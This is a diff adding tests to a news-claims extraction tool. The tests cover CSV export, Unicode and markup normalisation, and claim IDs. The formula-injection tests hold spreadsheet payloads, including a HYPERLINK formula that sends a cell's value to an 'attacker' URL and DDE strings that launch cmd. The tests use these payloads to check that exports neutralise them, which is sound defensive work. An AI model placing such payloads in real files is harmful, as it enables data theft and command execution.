@@ -21,6 +21,8 @@ import os
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from smallfs import fill, small_fs
 
 from geo import atomic
@@ -60,6 +62,72 @@ def seeded(tmp_path_factory):
     store = tmp_path_factory.mktemp("hostile") / "claims.gpkg"
     assert main(["ingest", str(SEED), "--store", str(store), "--no-progress"]) == 0
     return store
+
+
+# ------------------------------------------------------------------ f1 formula injection
+
+PAYLOADS = ['=HYPERLINK("http://attacker/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n@x",
+            "\uff1d1+1"]
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def dangerous(cell: str) -> bool:
+    """Whether a spreadsheet would run the cell as a formula (numbers are fine)."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        pass
+    return cell.startswith(FORMULA) or cell.lstrip(" \n\r\t").startswith(FORMULA)
+
+
+def csv_cells(data: bytes) -> list[str]:
+    import csv
+    import io
+
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
+            for c in row]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_f1_every_text_cell_of_the_acled_csv_is_neutralised(payload):
+    from geo.export import acled_csv_bytes
+    from geo.schema import CLAIM_DTYPES
+    from geo.synthetic import synthetic_claims
+
+    claims = synthetic_claims(6, seed=3)
+    for col, dtype in CLAIM_DTYPES.items():
+        if dtype == "string" and col not in ("claim_type", "published", "event_date",
+                                             "date_precision", "country_code", "unit"):
+            claims[col] = payload  # every free-text property of a claim
+    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
+    assert not [c for c in cells if dangerous(c)]
+    kept = payload.replace("\r", "\n")  # line ends as LF
+    assert any(c.startswith("'") and kept in c for c in cells)  # kept, as text
+
+
+def test_f1_negative_numbers_stay_numbers():
+    from geo.export import acled_csv_bytes
+    from geo.synthetic import synthetic_claims
+
+    claims = synthetic_claims(3, seed=1)
+    claims["longitude"] = -73.5
+    cells = csv_cells(acled_csv_bytes(claims, timestamp=0))
+    assert "-73.5" in cells and "'-73.5" not in cells
+
+
+def test_f1_hostile_article_through_ingest_and_export(capsys, tmp_path):
+    art = {"id": "x1", "published": "2024-08-15",
+           "text": "=1+1 " + CLEAN[0] + " -5 @cmd " + CLEAN[1],
+           "title": "+cmd|' /C calc'!A0", "source": PAYLOADS[0], "url": "@http://x"}
+    store, out = tmp_path / "s.gpkg", tmp_path / "x.csv"
+    assert run(capsys, "ingest", jsonl(tmp_path / "a.jsonl", art), "--store", store,
+               "--no-progress")[0] == 0
+    assert run(capsys, "export", "--store", store, "--out", out)[0] == 0
+    cells = csv_cells(out.read_bytes())
+    assert len(cells) > 40 and not [c for c in cells if dangerous(c)]
+    assert "'" + PAYLOADS[0] in cells  # the source, neutralised, still readable
 
 
 # ------------------------------------------------------------------ f2 full disk
@@ -160,6 +228,123 @@ def test_f2_a_writer_raising_enospc(capsys, tmp_path, seeded, monkeypatch, fmt):
     assert out.read_bytes() == b"old" and temporaries(tmp_path) == []
 
 
+# ------------------------------------------------------------------ f3 invisible characters
+
+ZWSP, ZWJ, SHY, BOM = "\u200b", "\u200d", "\u00ad", "\ufeff"
+CLEAN = [
+    "Russian forces captured Pokrovsk on Tuesday, the Russian defence ministry said.",
+    "Ukrainian drones struck Belgorod overnight, Governor Vyacheslav Gladkov said.",
+    "Ukrainian troops advanced three kilometres near Sudzha in the Kursk region, "
+    "Oleksandr Syrskyi said.",
+    "Ukrainian forces control 28 settlements and 28 square kilometres in Kursk region, "
+    "Syrskyi said.",
+    "Russian missiles hit two districts of Kharkiv. Three people were killed and 12 "
+    "wounded, the governor said.",
+]
+
+
+def claims_of(texts: list[str]):
+    import pandas as pd
+
+    from geo.cli import _resources
+    from geo.extract import extract_claims
+
+    frame = pd.DataFrame({"id": [f"a{i}" for i in range(len(texts))],
+                          "published": "2024-08-15", "text": texts})
+    return extract_claims(frame, _resources())
+
+
+def what_where(claims) -> list[tuple]:
+    """Each claim's article, type, place and unit: what must not move."""
+    return sorted((r.article_id, r.claim_type, r.place_id, str(r.unit))
+                  for r in claims.itertuples())
+
+
+@pytest.fixture(scope="module")
+def clean_claims():
+    found = what_where(claims_of(CLEAN))
+    assert {t for _, t, _, _ in found} >= {"control", "strike", "advance", "casualties"}
+    return found
+
+
+@pytest.mark.parametrize("dirty", [
+    (0, "Pokrovsk", f"Pok{ZWSP}rovsk"),  # geocoded to Austria
+    (1, "Belgorod", f"Bel{ZWSP}gorod"),  # geocoded to Brazil
+    (0, "Pokrovsk", f"Pok{SHY}rovsk"),  # another town
+    (0, "captured", f"captured{ZWJ}"),  # the claim was lost
+    (0, "captured", f"{ZWJ}captured"),
+    (4, "Kharkiv. Three", f"Kharkiv.{BOM} Three"),  # the next claim was lost
+    (4, "districts", f"dis{BOM}tricts"),
+    (2, "Sudzha", f"Sud{ZWSP}{SHY}zha"),
+    (1, "Belgorod", "Belgorod\u2060"),  # word joiner
+    (3, "28 square", "28\u00a0square"),  # no-break space
+    (3, "Kursk region", "Kursk\u202fregion"),  # narrow no-break space
+])
+def test_f3_invisible_characters_move_no_place_and_lose_no_claim(clean_claims, dirty):
+    i, old, new = dirty
+    texts = list(CLEAN)
+    assert old in texts[i]
+    texts[i] = texts[i].replace(old, new, 1)
+    claims = claims_of(texts)
+    assert what_where(claims) == clean_claims
+    sentences = set(claims["sentence"])
+    if ". " not in old:  # within one sentence: the sentence is shown as written
+        assert any(new in s for s in sentences)
+
+
+def test_f3_markup_and_references_are_read_as_text(clean_claims):
+    texts = [CLEAN[0].replace("Pokrovsk", "<b>Pokrovsk</b>"),
+             CLEAN[1].replace("Belgorod", "Bel&shy;gorod").replace(" ", "&nbsp;", 2),
+             CLEAN[2].replace("Sudzha", "Sud<span class='x'>zha</span>"),
+             CLEAN[3].replace("28 settlements", "28&#8203; settlements"),
+             CLEAN[4].replace("Kharkiv", "Khar<!-- c -->kiv")]
+    claims = claims_of(texts)
+    assert what_where(claims) == clean_claims
+    assert not any("<" in s or "&" in s for s in claims["sentence"])  # the clean sentence
+
+
+INVISIBLE = st.one_of(
+    st.characters(categories=["Cf"]),  # every format character: ZW*, BOM, bidi, tags...
+    st.sampled_from(["\u00ad", "\ufe0f", "\u034f", "\x00", "\x7f", "\x9c"]),
+)
+MARKUP = st.sampled_from(["<b>", "</b>", "<i>", "</i>", "<em>", "</em>", "<span>", "</span>",
+                          '<span class="n">', "<wbr>", "<!-- x -->", "&#8203;", "&shy;",
+                          "&zwj;", "&#x200B;", "<a href='x'>", "</a>", "<strong>"])
+SPACES = st.sampled_from(["\u00a0", "\u2009", "\u202f", "\u3000", "\u2007", "&nbsp;",
+                          "\u2002"])
+
+
+@st.composite
+def dirty_texts(draw) -> list[str]:
+    """Return the clean texts, spaces swapped, invisible characters or markup inserted."""
+    out = []
+    for text in CLEAN:
+        units = list(text)  # whole units: nothing is inserted inside an entity or a tag
+        spaces = [k for k, c in enumerate(units) if c == " "]
+        for k in draw(st.lists(st.sampled_from(spaces), max_size=3, unique=True)):
+            units[k] = draw(SPACES)
+        for pos in sorted(draw(st.lists(st.integers(0, len(units)), max_size=6)),
+                          reverse=True):
+            units.insert(pos, draw(st.one_of(INVISIBLE, MARKUP)))
+        out.append("".join(units))
+    return out
+
+
+@settings(max_examples=300, deadline=None)
+@given(texts=dirty_texts())
+def test_f3_property_normalised_text_is_the_clean_text(texts):
+    from geo.text import normalise
+
+    assert [normalise(t).text for t in texts] == CLEAN
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(texts=dirty_texts())
+def test_f3_property_claims_keep_their_place_and_type(clean_claims, texts):
+    """Real spaCy model and gazetteer: the dirty texts give the clean texts' claims."""
+    assert what_where(claims_of(texts)) == clean_claims
+
+
 # ------------------------------------------------------------------ f4 input errors, not crashes
 
 
@@ -225,6 +410,58 @@ def test_f4_empty_input_is_the_same_for_extract_and_ingest(capsys, tmp_path, con
     assert code_x == code_i == 0, (err_x, err_i)
     assert "0 articles" in err_x and "0 read" in out_i
     assert json.loads((tmp_path / "o.geojson").read_text())["features"] == []
+
+
+# ------------------------------------------------------------------ f5 claim ids
+
+
+def test_f5_a_count_and_an_area_in_one_sentence_get_two_ids(capsys, tmp_path):
+    src = jsonl(tmp_path / "a.jsonl", dict(GOOD, text=CLEAN[3]))
+    out = tmp_path / "o.geojson"
+    assert run(capsys, "extract", src, "--out", out)[0] == 0
+    feats = json.loads(out.read_text())["features"]
+    units = sorted(f["properties"]["unit"] for f in feats)
+    assert units == ["km2", "settlements"]
+    ids = [f["properties"]["claim_id"] for f in feats]
+    assert len(set(ids)) == len(ids) == 2
+
+
+@pytest.mark.parametrize("field, a, b", [
+    ("unit", "km2", "settlements"), ("quantity_max", 3.0, 5.0), ("qualifier", "about", None),
+    ("place_id", "geonames:1", "geonames:2"), ("actor", "Russia", "Ukraine"),
+    ("claimant", "A", "B"), ("event_date", "2024-08-14", "2024-08-15"),
+    ("date_precision", "day", "week"),
+])
+def test_f5_every_distinguishing_field_changes_the_id(field, a, b):
+    from geo.schema import claim_id
+
+    base = ("a1", 3, "control", "Kursk region", "control", 28.0)
+    assert claim_id(*base, **{field: a}) != claim_id(*base, **{field: b})
+    assert claim_id(*base, **{field: a}) == claim_id(*base, **{field: a})  # stable
+
+
+NUMBERS = st.sampled_from(["28", "28", "three", "12", "1,000", "about 40", "at least 5"])
+UNITS = st.sampled_from(["settlements", "square kilometres", "kilometres", "villages",
+                         "km2", "people"])
+PLACES = st.sampled_from(["Kursk region", "Sudzha", "Pokrovsk", "the Donetsk region"])
+
+
+@st.composite
+def quantity_sentences(draw) -> str:
+    """Return a sentence claiming several quantities about places (the fuzzed shape)."""
+    parts = [f"{draw(NUMBERS)} {draw(UNITS)}" for _ in range(draw(st.integers(2, 4)))]
+    verb = draw(st.sampled_from(["control", "captured", "took over", "advanced"]))
+    return (f"Ukrainian forces {verb} {', '.join(parts[:-1])} and {parts[-1]} in "
+            f"{draw(PLACES)}, Syrskyi said.")
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(texts=st.lists(quantity_sentences(), min_size=1, max_size=4))
+def test_f5_property_claim_ids_are_unique_and_stable(texts):
+    first = claims_of(texts)
+    assert not first["claim_id"].duplicated().any()
+    again = claims_of(texts)
+    assert list(again["claim_id"]) == list(first["claim_id"])
 
 
 # ------------------------------------------------------------------ f6 outputs that destroy inputs
